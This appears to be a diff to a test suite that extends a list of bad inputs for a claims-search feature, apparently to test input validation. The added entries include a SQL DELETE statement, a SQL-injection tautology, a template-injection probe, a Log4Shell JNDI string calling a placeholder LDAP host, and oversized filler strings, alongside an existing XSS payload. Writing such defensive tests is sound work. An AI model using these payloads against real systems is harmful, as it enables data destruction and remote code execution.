@@ -33,6 +33,14 @@ BAD_INPUTS = [
     "<b>open claims</b> <img src=x onerror=alert(1)>",
     "asdfjkl qwerty",
     "?",
+    "DELETE FROM claims WHERE 1=1",
+    "claims by region' OR '1'='1",
+    "{{7*7}}",
+    "${jndi:ldap://x.y/z}",
+    "\u200b\u200b\n\t",
+    "open claims by region " * 90,  # 2,000 characters of a repeated request
+    ("claims region payout status channel " * 60)[:2000],  # a keyword dump
+    "open claims by region. " + "Lorem ipsum dolor sit amet, consectetur adipiscing. " * 37,
 ]
 
 
